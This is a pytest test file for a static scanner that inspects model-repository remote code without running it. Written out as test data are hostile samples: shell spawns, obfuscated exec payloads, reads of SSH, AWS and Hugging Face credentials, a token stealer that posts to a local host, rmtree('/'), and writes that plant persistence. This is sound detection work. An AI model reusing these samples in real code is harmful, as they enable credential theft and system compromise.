"""Remote code (trust_remote_code) analysis: parse, resolve, fold, report; never import or run."""

from __future__ import annotations

import base64
import zlib
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from aivet.analyzers import pycode
from aivet.analyzers.context import Context, ScanOptions
from aivet.analyzers.engine import Outcome
from aivet.analyzers.source import Source
from aivet.evidence import ArtifactStatus, Finding, Severity
from aivet.formats import FormatError, LimitExceeded
from aivet.limits import DEFAULT_LIMITS, Limits
from tests.fixtures import marker_code, marker_path
from tests.fixtures.repo_files import MODELING_CLEAN_PY, TOKENIZATION_CLEAN_PY, build, fake_secrets, scan_dir
from tests.fixtures.work import HANG_TIMEOUT, memory_peak


def run(code: str | bytes, name: str = "modeling_x.py", limits: Limits = DEFAULT_LIMITS) -> tuple[list[Finding], Outcome]:
    ctx = Context("s", options=ScanOptions(limits=limits))
    data = code.encode() if isinstance(code, str) else code
    outcome = pycode.analyze(Source.from_bytes(data, name), ctx)
    return ctx.findings, outcome


def found(code: str | bytes, **kw: object) -> list[Finding]:
    return run(code, **kw)[0]  # type: ignore[arg-type]


def rules(code: str | bytes) -> set[str]:
    return {f.rule_id for f in found(code)}


def by_rule(findings: list[Finding], rule_id: str) -> list[Finding]:
    return [f for f in findings if f.rule_id == rule_id]


def medium_plus(findings: list[Finding]) -> list[Finding]:
    return [f for f in findings if f.severity >= Severity.MEDIUM]


# -- ordinary code stays quiet -----------------------------------------------------------------

def test_clean_transformers_modeling_file_has_nothing_at_medium_or_above() -> None:
    findings, outcome = run(MODELING_CLEAN_PY)
    assert medium_plus(findings) == []
    assert outcome == Outcome("python")


def test_clean_tokenizer_writing_its_vocabulary_is_quiet() -> None:
    assert medium_plus(found(TOKENIZATION_CLEAN_PY, name="tokenization_x.py")) == []


def test_everyday_library_calls_are_not_findings() -> None:
    code = """
import os, re, json, logging, subprocess_helpers
import torch
pattern = re.compile(r"\\d+")
model = torch.compile(model)
os.makedirs(out_dir, exist_ok=True)
path = os.path.join(out_dir, "weights.bin")
torch.save(state, path)
value = os.environ.get("TOKENIZERS_PARALLELISM", "false")
world = int(os.environ.get("WORLD_SIZE", 1))
"""
    assert medium_plus(found(code)) == []


# -- processes, aliases and obfuscated names -----------------------------------------------------

@pytest.mark.parametrize("code", [
    "import os\nos.system('id')",
    "import subprocess as sp\nsp.run(['id'])",
    "from os import system as s\ns('id')",
    "from subprocess import *\nPopen('id', shell=True)",
    "__import__('os').system('id')",
    "import importlib\nimportlib.import_module('o' + 's').system('id')",
    "import os\ngetattr(os, 'sys' + 'tem')('id')",
    "import sys\nsys.modules['os'].system('id')",
    "import os\nvars(os)['system']('id')",
    "import pty\npty.spawn('/bin/sh')",
    "import os\nos.execv('/bin/sh', ['sh'])",
    "import os\nf = os.popen\nf('id')",
    "m = __import__(''.join(['s', 'u', 'b', 'process']))\nm.check_output('id')",
])
def test_process_execution_is_found_through_aliases(code: str) -> None:
    hits = by_rule(found(code), "CODE-PROCESS")
    assert hits, code
    assert hits[0].severity is Severity.CRITICAL  # module level: runs on import
    assert hits[0].location.line is not None
    assert "(" in hits[0].details["call"]


def test_assembled_names_are_obfuscation() -> None:
    findings = found("import os\ngetattr(os, 'sys' + 'tem')('id')\n__import__('o' + 's')")
    obf = by_rule(findings, "CODE-OBFUSCATION")
    assert {f.location.line for f in obf} == {2, 3}


def test_severity_depends_on_whether_code_runs_at_import() -> None:
    code = """
import os
os.system('a')

class M:
    os.system('b')

def f(x=os.system('c')):
    os.system('d')

@register(os.system('e'))
def g():
    pass

if __name__ == "__main__":
    os.system('f')
"""
    sev = {f.details["call"]: f.severity for f in by_rule(found(code), "CODE-PROCESS")}
    assert sev["os.system('a')"] is Severity.CRITICAL
    assert sev["os.system('b')"] is Severity.CRITICAL  # class bodies run on import
    assert sev["os.system('c')"] is Severity.CRITICAL  # default arguments too
    assert sev["os.system('d')"] is Severity.HIGH
    assert sev["os.system('e')"] is Severity.CRITICAL  # decorators too
    assert sev["os.system('f')"] is Severity.HIGH


def test_pip_install_is_its_own_rule() -> None:
    findings = found("import subprocess, sys\n"
                     "subprocess.check_call([sys.executable, '-m', 'pip', 'install', 'x'])\n"
                     "import os\nos.system('pip install y')\nimport pip\npip.main(['install', 'z'])")
    assert len(by_rule(findings, "CODE-PIP-INSTALL")) == 3
    assert not by_rule(findings, "CODE-PROCESS")


# -- exec of decoded code -------------------------------------------------------------------------

def test_base64_exec_is_critical_and_the_decoded_code_is_analysed(marker_dir: Path) -> None:
    inner = "import os\nos.system('id')\n" + marker_code(marker_dir, "b64")
    code = f"import base64\nexec(base64.b64decode({base64.b64encode(inner.encode()).decode()!r}))"
    findings = found(code)
    assert by_rule(findings, "CODE-OBFUSCATED-EXEC")[0].severity is Severity.CRITICAL
    nested = by_rule(findings, "CODE-PROCESS")
    assert nested and nested[0].details["decoded_depth"] == 1 and nested[0].location.line == 2
    assert not marker_path(marker_dir, "b64").exists()


@pytest.mark.parametrize("expr", [
    "zlib.decompress(base64.b64decode(P_ZB64))",
    "codecs.decode(P_ROT, 'rot13')",
    "bytes.fromhex(P_HEX).decode()",
    "''.join(chr(c) for c in P_ORDS)",
    "''.join(map(chr, P_ORDS))",
    "P_TXT[::-1][::-1][::-1]",
    "base64.b64decode(P_B64[::-1])",
])
def test_decoders_feeding_exec(expr: str) -> None:
    payload = "import socket\nsocket.socket().connect(('127.0.0.1', 9))"
    consts = {
        "P_ZB64": repr(base64.b64encode(zlib.compress(payload.encode())).decode()),
        "P_ROT": repr(__import__("codecs").encode(payload, "rot13")),
        "P_HEX": repr(payload.encode().hex()),
        "P_ORDS": repr([ord(c) for c in payload]),
        "P_TXT": repr(payload[::-1]),
        "P_B64": repr(base64.b64encode(payload.encode()).decode()[::-1]),
    }
    for k, v in consts.items():
        expr = expr.replace(k, v)
    findings = found(f"import base64, zlib, codecs\nexec({expr})")
    assert by_rule(findings, "CODE-OBFUSCATED-EXEC"), expr
    assert any(f.rule_id == "CODE-NETWORK" and f.details.get("decoded_depth") for f in findings), expr


def test_exec_of_unknown_data_is_high_and_of_a_decoder_critical() -> None:
    findings = found("def f(s):\n    exec(s)\n\ndef g(b):\n    import base64\n    exec(base64.b64decode(b))\n")
    assert by_rule(findings, "CODE-EXEC")[0].severity is Severity.HIGH
    assert by_rule(findings, "CODE-OBFUSCATED-EXEC")[0].location.line == 6


def test_decoding_depth_is_bounded() -> None:
    code = "print(1)\nimport os\nos.system('x')"
    for _ in range(7):
        code = f"import base64\nexec(base64.b64decode({base64.b64encode(code.encode()).decode()!r}))"
    findings = found(code)
    assert any(f.rule_id == "SCAN-LIMIT-EXCEEDED" and f.details["limit"] == "max_decode_depth" for f in findings)


def test_decompression_bomb_in_source_is_bounded() -> None:
    bomb = base64.b64encode(zlib.compress(b"A" * (64 * 1024 * 1024), 9)).decode()
    findings, peak = memory_peak(lambda: found(f"import zlib, base64\nexec(zlib.decompress(base64.b64decode({bomb!r})))"))
    assert by_rule(findings, "CODE-OBFUSCATED-EXEC")
    assert peak < 16 * 1024 * 1024, peak  # inflating the 64 MiB would show here (max_decoded_bytes is 1 MiB)


def test_long_base64_literal_holding_code() -> None:
    inner = "import subprocess\nsubprocess.run(['id'])\n" + "# padding\n" * 80
    blob = base64.b64encode(inner.encode()).decode()
    findings = found(f"DATA = {blob!r}\n")
    assert by_rule(findings, "CODE-OBFUSCATION")
    assert any(f.rule_id == "CODE-PROCESS" and f.details.get("decoded_depth") for f in findings)


# -- credentials, environment, network ----------------------------------------------------------------

@pytest.mark.parametrize("expr", [
    "open(os.path.expanduser('~/.cache/huggingface/token')).read()",
    "(Path.home() / '.ssh' / 'id_rsa').read_text()",
    "open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')).read()",
    "open(f'{HOME}/.netrc').read()",
    "open('/etc/shadow').read()",
    "huggingface_hub.HfFolder.get_token()",
    "keyring.get_password('svc', 'user')",
])
def test_credential_access(expr: str) -> None:
    code = f"import os, keyring, huggingface_hub\nfrom pathlib import Path\nHOME = '~'\ndef f():\n    return {expr}\n"
    hits = by_rule(found(code), "CODE-CREDENTIAL-ACCESS")
    assert hits and hits[0].location.line == 5, expr


def test_credential_stealer_is_exfiltration() -> None:
    code = """
import os, requests
def steal():
    token = open(os.path.expanduser("~/.cache/huggingface/token")).read()
    requests.post("http://127.0.0.1:9/", data={"t": token})
"""
    ex = by_rule(found(code), "CODE-EXFILTRATION")
    assert ex and ex[0].severity is Severity.CRITICAL and ex[0].location.line == 5


def test_secret_env_and_environment_dump() -> None:
    code = """
import os, json, urllib.request
a = os.environ["HF_TOKEN"]
b = os.getenv("AWS_SECRET_ACCESS_KEY")
c = os.environ.get("OPENAI_API_KEY")
def send():
    urllib.request.urlopen("http://127.0.0.1:9/", json.dumps(dict(os.environ)).encode())
"""
    findings = found(code)
    names = {f.details["variable"] for f in by_rule(findings, "CODE-SECRET-ENV")}
    assert {"HF_TOKEN", "AWS_SECRET_ACCESS_KEY", "OPENAI_API_KEY", "*"} <= names
    assert by_rule(findings, "CODE-EXFILTRATION")[0].location.line == 7


def test_network_import_is_low_and_call_medium() -> None:
    findings = found("import requests\ndef f():\n    return requests.get('http://127.0.0.1:9/')\n")
    sev = {f.location.line: f.severity for f in by_rule(findings, "CODE-NETWORK")}
    assert sev == {1: Severity.LOW, 3: Severity.MEDIUM}


# -- files, deserialisation, native code, nested remote code ---------------------------------------------

def test_writes_outside_the_repository_and_persistence() -> None:
    code = """
import os, shutil
from pathlib import Path
def f(save_directory):
    open("/etc/motd", "w").write("x")
    open("../../escape.txt", "a").write("x")
    shutil.rmtree("/")
    with open(os.path.join(save_directory, "vocab.json"), "w") as fh:
        fh.write("{}")
    open(os.path.expanduser("~/.bashrc"), "a").write("x")
    (Path.home() / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA")
    open("/usr/lib/python3/site-packages/evil.pth", "w").write("import os")
"""
    findings = found(code)
    assert sorted(f.location.line for f in by_rule(findings, "CODE-WRITE-OUTSIDE")) == [5, 6, 7]
    assert sorted(f.location.line for f in by_rule(findings, "CODE-PERSISTENCE")) == [10, 11, 12]


def test_deserialisation_native_and_torch_load() -> None:
    code = """
import pickle, marshal, ctypes, torch, types, numpy as np
def f(b):
    pickle.loads(b)
    exec(marshal.loads(b))
    ctypes.CDLL("libc.so.6")
    torch.load("x.bin")
    torch.load("y.bin", weights_only=True)
    np.load("z.npy", allow_pickle=True)
"""
    findings = found(code)
    assert {f.location.line for f in by_rule(findings, "CODE-DESERIALIZATION")} >= {4, 5}
    assert by_rule(findings, "CODE-OBFUSCATED-EXEC")[0].location.line == 5
    assert by_rule(findings, "CODE-NATIVE")[-1].location.line == 6
    assert sorted(f.location.line for f in by_rule(findings, "CODE-UNSAFE-TORCH-LOAD")) == [7, 9]


def test_nested_trust_remote_code_and_hub_downloads() -> None:
    code = """
from transformers import AutoModel, pipeline
from huggingface_hub import hf_hub_download
def f():
    AutoModel.from_pretrained("other/repo", trust_remote_code=True)
    pipeline("text-generation", model="x/y", trust_remote_code=True)
    hf_hub_download("x/y", "file.bin")
"""
    findings = found(code)
    nested = by_rule(findings, "CODE-NESTED-REMOTE-CODE")
    assert [f.details["repo"] for f in nested] == ["other/repo", "text-generation"]
    assert by_rule(findings, "CODE-HUB-DOWNLOAD")[0].severity is Severity.LOW


# -- malformed, hostile and huge input ------------------------------------------------------------------

def test_syntax_error_fails_closed_at_medium() -> None:
    # Not analysable is not clean: a newer Python may import what this parser rejects.
    findings = found("def f(:\n    pass\n")
    assert [f.rule_id for f in findings] == ["CODE-SYNTAX-ERROR"]
    assert findings[0].severity is Severity.MEDIUM and findings[0].location.line == 1


def test_non_utf8_source_is_decoded_with_replacement() -> None:
    findings = found(b"# caf\xe9\nimport os\nos.system('id')\n")
    assert {"CODE-ENCODING", "CODE-PROCESS"} <= {f.rule_id for f in findings}


def test_latin1_coding_cookie_is_honoured() -> None:
    findings = found(b"# -*- coding: latin-1 -*-\n# caf\xe9\nimport os\nos.system('id')\n")
    assert "CODE-ENCODING" not in {f.rule_id for f in findings}
    assert by_rule(findings, "CODE-PROCESS")


def test_unusual_source_encoding_is_obfuscation() -> None:
    findings = found(b"# coding: utf-7\nx = 1\n")
    assert by_rule(findings, "CODE-OBFUSCATION")


def test_file_over_the_size_limit_is_partial() -> None:
    limits = replace(DEFAULT_LIMITS, max_text_file_bytes=1000)
    findings, outcome = run("import os\nos.system('id')\n" + "x = 1\n" * 1000, limits=limits)
    assert outcome.status is ArtifactStatus.PARTIAL
    assert by_rule(findings, "SCAN-LIMIT-EXCEEDED") and by_rule(findings, "CODE-PROCESS")


@pytest.mark.parametrize("code", [
    "x = " + "(" * 5000 + ")" * 5000,
    "x = " + "+".join(["'a'"] * 50_000),
    "x = " + "[" * 300 + "]" * 300,
    "\x00import os",
    "x = " + "a." * 20_000 + "b",
    "".join("v = v + v\n" for _ in range(200)) + "exec(v)",
])
@pytest.mark.timeout(HANG_TIMEOUT)
def test_hostile_shapes_finish(code: str) -> None:
    run(code)


@pytest.mark.parametrize("n", [300, 1200])
def test_many_reassignments_do_not_make_folding_exponential(n: int) -> None:
    # Folding each name once costs a few steps per line (about 5n); an exponential (2**n) or
    # quadratic (n*n at n=1200) fold would run out of a budget of 10 steps per line.
    code = "h = x\n" + "".join(f"h = h * h + h{i % 3}\n" for i in range(n)) + "exec(h)\n"
    findings = found(code, limits=replace(DEFAULT_LIMITS, max_fold_steps=10 * n))
    assert by_rule(findings, "CODE-EXEC")
    assert not by_rule(findings, "SCAN-LIMIT-EXCEEDED")


def test_finding_count_is_capped() -> None:
    limits = replace(DEFAULT_LIMITS, max_findings_per_file=10)
    findings, _ = run("import os\n" + "".join(f"os.system('{i}')\n" for i in range(100)), limits=limits)
    assert len(by_rule(findings, "CODE-PROCESS")) == 10
    assert by_rule(findings, "SCAN-LIMIT-EXCEEDED")


def test_secrets_in_source_are_found_and_redacted() -> None:
    token = fake_secrets()["hf"]
    findings = found(f"import os\nTOKEN = '{token}'\nos.system('curl -H {token} x')\n")
    assert by_rule(findings, "SECRET-HF-TOKEN")[0].location.line == 2
    assert all(token not in f.message and token not in str(f.to_dict()) for f in findings)


_PY_ALPHABET = st.sampled_from(list("abcdefxyz_()[]{}:=+-*/.,'\"\n \t#\\0123456789") +
                               ["import ", "os", "exec", "eval", "getattr", "base64.b64decode", "chr", "def ",
                                "class ", "lambda ", "__import__", "system", "open", "'~/.ssh'", "join"])


@pytest.mark.timeout(HANG_TIMEOUT)
@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(_PY_ALPHABET, max_size=200).map("".join))
def test_random_python_like_text_never_raises(code: str) -> None:
    try:
        run(code)
    except (FormatError, LimitExceeded):
        pass


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(st.tuples(st.integers(0, len(MODELING_CLEAN_PY) - 1), st.binary(max_size=3)), max_size=8))
def test_mutated_modeling_files_never_raise(edits: list[tuple[int, bytes]]) -> None:
    data = bytearray(MODELING_CLEAN_PY.encode())
    for pos, new in edits:
        data[pos:pos + len(new)] = new
    try:
        run(bytes(data))
    except (FormatError, LimitExceeded):
        pass


# -- the repository corpus ------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def corpus(tmp_path_factory: pytest.TempPathFactory) -> tuple[list[object], Path]:
    markers = tmp_path_factory.mktemp("repo-markers")
    return build(tmp_path_factory.mktemp("repos"), markers), markers  # type: ignore[return-value]


def test_corpus_samples_raise_what_they_promise(corpus: tuple[list[object], Path]) -> None:
    samples, markers = corpus
    assert len(samples) >= 15
    for sample in samples:
        findings = scan_dir(sample.path)  # type: ignore[attr-defined]
        ids = {f.rule_id for f in findings}
        worst = max((f.severity for f in findings), default=Severity.INFO)
        assert set(sample.expect_rules) <= ids, (sample.name, ids)  # type: ignore[attr-defined]
        if sample.malicious:  # type: ignore[attr-defined]
            assert worst >= sample.min_severity, sample.name  # type: ignore[attr-defined]
        else:
            assert worst < Severity.MEDIUM, [f for f in findings if f.severity >= Severity.MEDIUM]
    assert list(markers.iterdir()) == []  # nothing was ever executed


def test_setting_an_environment_variable_is_not_reading_a_secret() -> None:
    assert found("import os\nos.environ['WANDB_API_KEY'] = 'off'\n") == []


def test_engine_dispatches_repositories_to_these_analyzers(corpus: tuple[list[object], Path]) -> None:
    import aivet

    samples, _ = corpus
    by_name = {s.name: s for s in samples}  # type: ignore[attr-defined]
    clean = aivet.scan(by_name["repo-clean-remote-code"].path)
    assert not clean.at_or_above(Severity.MEDIUM)
    assert {a.format for a in clean.artifacts} >= {"python", "hf-config", "tokenizer-config", "text"}
    bad = aivet.scan(by_name["repo-credential-stealer"].path)
    assert "CODE-EXFILTRATION" in {f.rule_id for f in bad.findings}


def test_functions_called_at_import_count_as_import_time() -> None:
    code = """
import os
def _inner():
    os.system('a')
def _setup():
    _inner()
def _unused():
    os.system('b')
if __name__ == "__main__":
    _unused()
_setup()
"""
    sev = {f.details["call"]: (f.severity, f.message) for f in by_rule(found(code), "CODE-PROCESS")}
    assert sev["os.system('a')"][0] is Severity.CRITICAL and "called at import" in sev["os.system('a')"][1]
    assert sev["os.system('b')"][0] is Severity.HIGH


def test_qwen_style_tiktoken_loader_and_flash_attn_probe_are_quiet() -> None:
    code = '''
import base64
import importlib.util
import unicodedata
from typing import Dict

try:
    from flash_attn import flash_attn_func
except ImportError:
    flash_attn_func = None

HAS_FLASH = importlib.util.find_spec("flash_attn") is not None


def _load_tiktoken_bpe(tiktoken_bpe_file: str) -> Dict[bytes, int]:
    with open(tiktoken_bpe_file, "rb") as f:
        contents = f.read()
    return {base64.b64decode(token): int(rank) for token, rank in (line.split() for line in contents.splitlines() if line)}
'''
    assert medium_plus(found(code, name="tokenization_qwen.py")) == []


def test_compiling_cpp_extensions_is_native_code() -> None:
    code = "from torch.utils.cpp_extension import load\nkernels = load(name='k', sources=['k.cu'])\n"
    assert by_rule(found(code), "CODE-NATIVE")[0].severity is Severity.HIGH  # import time
